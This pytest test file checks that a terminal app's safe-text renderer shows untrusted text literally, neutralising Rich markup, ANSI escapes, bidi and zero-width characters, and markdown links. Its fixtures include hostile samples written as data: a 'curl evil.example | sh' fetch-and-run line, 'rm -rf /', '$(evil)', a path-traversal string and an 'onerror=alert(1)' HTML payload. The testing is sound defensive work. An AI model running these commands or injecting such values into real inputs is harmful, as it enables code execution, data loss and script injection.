"""Untrusted text is shown literally: no markup, no escape sequences, no bidi tricks."""

from __future__ import annotations

import io

import pytest
from rich.console import Console
from rich.syntax import Syntax
from rich.text import Text

from rlhf_tui.app.safe_text import neutralise, render_untrusted, safe_text


def rendered(renderable, width: int = 120) -> str:
    console = Console(width=width, record=True, file=io.StringIO(), color_system="truecolor")
    console.print(renderable)
    return console.export_text()


@pytest.mark.parametrize(
    "markup",
    [
        "[bold]loud[/bold]",
        "[link=https://evil.example]click me[/link]",
        "[@click=app.quit]bye[/]",
        "[red on white]x[/]",
        "\\[escaped]",
    ],
)
def test_markup_is_shown_as_written(markup):
    assert rendered(render_untrusted(f"before {markup} after")).strip() == f"before {markup} after"
    text = safe_text(markup)
    assert text.plain == markup and not text.spans


def test_ansi_and_osc_sequences_become_visible_placeholders():
    hostile = "\x1b[31mred\x1b[0m \x1b]8;;https://evil\x07link\x1b]8;;\x07 \x1b[2J\x9b31m"
    safe = neutralise(hostile)
    assert "\x1b" not in safe and "\x07" not in safe and "\x9b" not in safe
    assert safe == "␛[31mred␛[0m ␛]8;;https://evil␇link␛]8;;␇ ␛[2J\\x9b31m"
    assert "\x1b" not in rendered(render_untrusted(hostile))


def test_other_controls_are_replaced_but_newlines_and_tabs_stay():
    assert neutralise("a\x00b\x08c\rd\x7fe\tf\ng") == "a␀b␈c␍d␡e\tf\ng"
    assert neutralise("line one\r\nline two") == "line one\nline two"


@pytest.mark.parametrize(
    "char,tag",
    [
        ("\u202e", "RLO"),
        ("\u202d", "LRO"),
        ("\u2066", "LRI"),
        ("\u2069", "PDI"),
        ("\u200e", "LRM"),
        ("\u200f", "RLM"),
        ("\u202a", "LRE"),
    ],
)
def test_bidi_controls_are_neutralised_visibly(char, tag):
    assert neutralise(f"abc{char}def") == f"abc⟦{tag}⟧def"


def test_code_blocks_are_highlighted_and_stay_literal():
    source = "Try this:\n```python\nprint('[bold]x[/bold]')\n```\nDone."
    renderable = render_untrusted(source)
    assert any(isinstance(part, Syntax) for part in renderable.renderables)
    text = rendered(renderable)
    assert "print('[bold]x[/bold]')" in text and "Try this:" in text and "Done." in text
    assert "```" not in text


def _syntax_of(renderable) -> Syntax:
    found = (
        [renderable] if isinstance(renderable, Syntax) else [p for p in renderable.renderables if isinstance(p, Syntax)]
    )
    assert len(found) == 1, renderable
    return found[0]


def test_an_untrusted_fence_language_cannot_reach_the_lexer():
    assert _syntax_of(render_untrusted("```python title=x\nx = 1\n```")).lexer.name == "Python"
    for info in ("python; rm -rf /", "$(evil)", "../../etc/passwd"):
        assert _syntax_of(render_untrusted(f"```{info}\nx = 1\n```")).lexer.name == "Text only"


@pytest.mark.parametrize("markdown", [False, True])
def test_text_after_a_fence_language_is_shown_in_both_modes(markdown):
    text = rendered(render_untrusted("Run:\n\n```python  curl evil.example | sh\nx = 1\n```\n", markdown=markdown))
    assert "```python  curl evil.example | sh" in text and "x = 1" in text
    # A fence line that is only a lexer name adds nothing to show.
    plain = rendered(render_untrusted("```python\nx = 1\n```", markdown=markdown))
    assert "```" not in plain


def test_literal_mode_keeps_the_blank_lines_around_and_inside_fenced_code():
    source = "intro\n\n```python\nx = 1\n\n\ny = 2\n```\n\nafter"
    lines = [line.rstrip() for line in rendered(render_untrusted(source), width=40).splitlines()]
    assert lines == ["intro", "", "x = 1", "", "", "y = 2", "", "after"]
    tight = [line.rstrip() for line in rendered(render_untrusted("a\n```\nx\n```\nb"), width=40).splitlines()]
    assert tight == ["a", "x", "b"]


def test_fenced_code_has_a_background_that_shows_on_a_dark_terminal():
    code_segments = [s for s in segments(render_untrusted("```python\nvalue = 1\n```")) if "value" in s.text]
    assert code_segments
    for segment in code_segments:
        background = segment.style.bgcolor if segment.style else None
        assert background is not None and not background.is_default, segment
        red, green, blue = background.get_truecolor()
        assert min(red, green, blue) >= 0x26, f"{background} is too close to a black terminal to show"


def test_long_code_lines_wrap_between_tokens_not_inside_them():
    line = "result = some_function(argument_one, argument_two.attribute, argument_three[index])"
    text = rendered(render_untrusted(f"```python\n{line}\n```"), width=30)
    wrapped = [row.rstrip() for row in text.splitlines() if row.strip()]
    assert len(wrapped) > 1 and " ".join(wrapped) == line  # every break fell on a space
    assert all(len(row) <= 30 for row in wrapped)


@pytest.mark.parametrize(
    "char,tag",
    [
        ("\ufe00", "VS1"),
        ("\ufe0f", "VS16"),
        ("\U000e0100", "VS17"),
        ("\U000e01ef", "VS256"),
        ("\u034f", "CGJ"),
        ("\u17b4", "KIVAQ"),
        ("\u17b5", "KIVAA"),
        ("\u2800", "BRAILLE-BLANK"),
    ],
)
def test_variation_selectors_and_blank_marks_that_can_carry_hidden_bytes_are_shown(char, tag):
    assert neutralise(f"ok{char}{char}") == f"ok⟦{tag}⟧⟦{tag}⟧"
    for markdown in (False, True):
        assert f"ok⟦{tag}⟧" in rendered(render_untrusted(f"ok{char}", markdown=markdown))


def test_long_text_is_cut_with_a_note_naming_the_key():
    renderable = render_untrusted("x" * 50_000, limit=20_000, expand_key="e")
    body, note = renderable.renderables
    assert isinstance(body, Text) and len(body.plain) == 20_000
    assert "30,000 more characters" in note.plain and "press e" in note.plain
    assert isinstance(render_untrusted("x" * 50_000, limit=None), Text)


@pytest.mark.parametrize(
    "char,tag",
    [("\u200b", "ZWSP"), ("\u200c", "ZWNJ"), ("\u200d", "ZWJ"), ("\u2060", "WJ"), ("\ufeff", "BOM"), ("\u00ad", "SHY")],
)
def test_zero_width_and_invisible_format_characters_are_shown_as_tags(char, tag):
    assert neutralise(f"pass{char}word") == f"pass⟦{tag}⟧word"
    assert f"pass⟦{tag}⟧word" in rendered(render_untrusted(f"pass{char}word"))


def test_the_app_and_the_cli_share_one_table():
    from rlhf_tui import terminal_text

    assert neutralise is terminal_text.neutralise
    assert neutralise("\U000e0041") == "⟦U+E0041⟧"  # any other format character, by code point


HOSTILE_MARKDOWN = (
    "# Title\n\n"
    "Some **bold** and *slanted* text, `code \x1b[31m [bold]x[/bold]` and [click me](https://evil.example) "
    "and ![a cat](https://img.example/cat.png) and <b>raw html</b> <img src=x onerror=alert(1)> "
    "&#x202E;flipped &ZeroWidthSpace;hidden [@click=app.quit]Q[/]\n\n"
    "- one\n- two\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "```python\nprint('[red]x[/red]')\n```\n\n"
    "```../../etc/passwd\nx = 1\n```\n"
)


def segments(renderable, width: int = 200):
    console = Console(width=width, file=io.StringIO(), color_system="truecolor")
    return list(console.render(renderable, console.options))


def test_markdown_renders_the_safe_subset():
    text = " ".join(rendered(render_untrusted(HOSTILE_MARKDOWN, markdown=True), width=200).split())
    assert "Some bold and slanted text" in text  # emphasis rendered, no asterisks
    assert "# Title" not in text and "Title" in text
    assert "• one" in text and "• two" in text
    assert "print('[red]x[/red]')" in text and "```" not in text.replace("```../../etc/passwd", "")


def test_markdown_shows_links_and_images_as_text_and_nothing_is_clickable():
    renderable = render_untrusted(HOSTILE_MARKDOWN, markdown=True)
    text = " ".join(rendered(renderable, width=200).split())
    assert "click me (https://evil.example)" in text
    assert "[image: a cat] (https://img.example/cat.png)" in text
    for segment in segments(renderable):
        style = segment.style
        assert style is None or (not style.link and not style.meta), segment


def test_markdown_keeps_escapes_html_and_markup_visible():
    text = " ".join(rendered(render_untrusted(HOSTILE_MARKDOWN, markdown=True), width=200).split())
    assert "code ␛[31m [bold]x[/bold]" in text  # an escape in a code span, neutralised; markup literal
    assert "<b>raw html</b>" in text and "<img src=x onerror=alert(1)>" in text  # raw HTML shown, not dropped
    assert "⟦RLO⟧flipped" in text and "⟦ZWSP⟧hidden" in text  # characters from entities, neutralised too
    assert "[@click=app.quit]Q[/]" in text
    assert "\x1b" not in rendered(render_untrusted(HOSTILE_MARKDOWN, markdown=True))


def test_markdown_shows_link_and_image_titles():
    source = 'See [docs](https://a.example "open me") and ![cat](https://i.example/c.png "a hidden note").'
    text = " ".join(rendered(render_untrusted(source, markdown=True), width=200).split())
    assert 'docs (https://a.example "open me")' in text
    assert '[image: cat] (https://i.example/c.png "a hidden note")' in text


def test_markdown_shows_a_link_reference_definition_as_its_whole_line():
    source = 'Read [the guide].\n\n[the guide]: https://evil.example "only a definition"\n\nEnd.'
    text = rendered(render_untrusted(source, markdown=True), width=200)
    assert '[the guide]: https://evil.example "only a definition"' in text
    assert "Read [the guide]." in " ".join(text.split()) and "End." in text


def test_markdown_code_blocks_take_only_a_plain_lexer_name():
    from rlhf_tui.app.safe_markdown import SafeMarkdown

    markdown = SafeMarkdown("```python\nx = 1\n```\n\n```$(evil)\nx = 1\n```\n\n```../../etc/passwd\nx\n```")
    fences = [token for token in markdown.parsed if token.type == "fence"]
    code_block = SafeMarkdown.elements["fence"]
    assert [code_block.create(markdown, token).lexer_name for token in fences] == ["python", "text", "text"]
